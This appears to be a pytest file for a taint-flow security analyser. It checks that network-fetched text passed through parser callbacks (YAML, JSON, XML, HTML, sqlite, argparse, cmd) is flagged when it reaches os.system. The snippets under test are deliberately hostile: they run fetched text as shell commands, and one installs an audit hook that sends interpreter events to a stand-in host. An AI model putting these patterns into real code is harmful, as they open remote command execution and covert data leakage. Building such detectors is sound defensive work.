"""What a parser calls is called with what it reads: functions, methods and classes that it was handed."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Taint

HEAD = (
    "import argparse, ast, cmd, configparser, json, multiprocessing, os, queue, re, sqlite3\n"
    "import urllib.request, xml.parsers.expat, xml.sax, yaml\n"
    "run = os.system\nfrom html.parser import HTMLParser\n"
    "TEXT = urllib.request.urlopen('https://f.example.invalid').read().decode()\n"
)
HARM = [
    "yaml.SafeLoader.add_constructor('!x', lambda l, node: run(node.value))\nyaml.safe_load(TEXT)",
    (
        "class L(yaml.SafeLoader):\n    pass\ndef f(l, node):\n    run(l.construct_scalar(node))\n"
        "L.add_constructor('!x', f)\nyaml.load(TEXT, L)"
    ),
    "class D(json.JSONDecoder):\n    def hook(self, p):\n        run(p['c'])\njson.loads(TEXT, cls=D)",
    (
        "class H(xml.sax.ContentHandler):\n    def characters(self, t):\n        run(t)\n"
        "xml.sax.parseString(TEXT, H())"
    ),
    "p = xml.parsers.expat.ParserCreate()\np.CharacterDataHandler = lambda t: run(t)\np.Parse(TEXT)",
    "class P(HTMLParser):\n    def handle_data(self, t):\n        run(t)\nP().feed(TEXT)",
    (
        "class P(HTMLParser):\n    kept = ''\n    def handle_comment(self, t):\n        self.kept += t\n"
        "p = P()\np.feed(TEXT)\nrun(p.kept)"
    ),
    "re.Scanner([('.+', lambda scanner, t: run(t))]).scan(TEXT)",
    (
        "c = sqlite3.connect(':memory:')\nsqlite3.register_converter('X', lambda raw: run(raw))\n"
        "c.execute('select ?', (TEXT,)).fetchall()"
    ),
    (
        "class V(ast.NodeVisitor):\n    def visit_Constant(self, node):\n        run(node.value)\n"
        "V().visit(ast.parse(TEXT))"
    ),
    "class C(cmd.Cmd):\n    def default(self, line):\n        run(line)\nC().onecmd(TEXT)",
    "p = argparse.ArgumentParser()\np.add_argument('a', type=lambda t: run(t))\np.parse_args([TEXT])",
    "configparser.ConfigParser(converters={'x': lambda t: run(t)}).read_string(TEXT)",
    "q = queue.Queue()\nq.put(TEXT)\nrun(q.get())",
    "q = multiprocessing.Queue()\nq.put(TEXT)\nrun(q.get())",
]
ASKED = [
    "import requests\nrequests.get('https://f.example.invalid', hooks={'response': lambda r, *a: run(r)})",
    (
        "class H(xml.sax.ContentHandler):\n    def characters(self, t):\n        run(t)\n"
        "p = xml.sax.make_parser()\np.setContentHandler(H())\np.parse('https://f.example.invalid/a.xml')"
    ),
]
ORDINARY = [
    "class P(HTMLParser):\n    def handle_data(self, t):\n        run('true')\nP().feed('<a>')",
    "p = argparse.ArgumentParser()\np.add_argument('a', type=lambda t: run(t))\np.parse_args()",
    "json.loads(TEXT, object_hook=dict)",
    (
        "class V(ast.NodeVisitor):\n    def visit_Constant(self, node):\n        run(node.value)\n"
        "V().visit(ast.parse('1'))"
    ),
    "q = queue.Queue()\nq.put('true')\nrun(q.get())",
]


def fetched(text: str) -> list[str]:
    found = flows(f"{HEAD}{text}\n", Act.RUN, "wheel")
    return [one.name for one in found if one.has(Taint.NETWORK)]


@pytest.mark.parametrize("text", HARM + ASKED)
def test_what_came_in_reaches_them(text: str) -> None:
    assert "os.system" in fetched(text)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary(text: str) -> None:
    assert fetched(text) == []


def test_what_the_interpreter_hands_to_a_tracer() -> None:
    text = (
        "import sys, urllib.request\n"
        "tell = lambda what, more: urllib.request.urlopen('https://f.example.invalid', data=more)\n"
        "sys.addaudithook(tell)\n"
    )
    assert [one.target for one in flows(text, Act.WRITE, "wheel")] == ["sys.addaudithook"]
    assert any(one.has(Taint.ARGUMENT) for one in flows(text, Act.SEND, "wheel"))
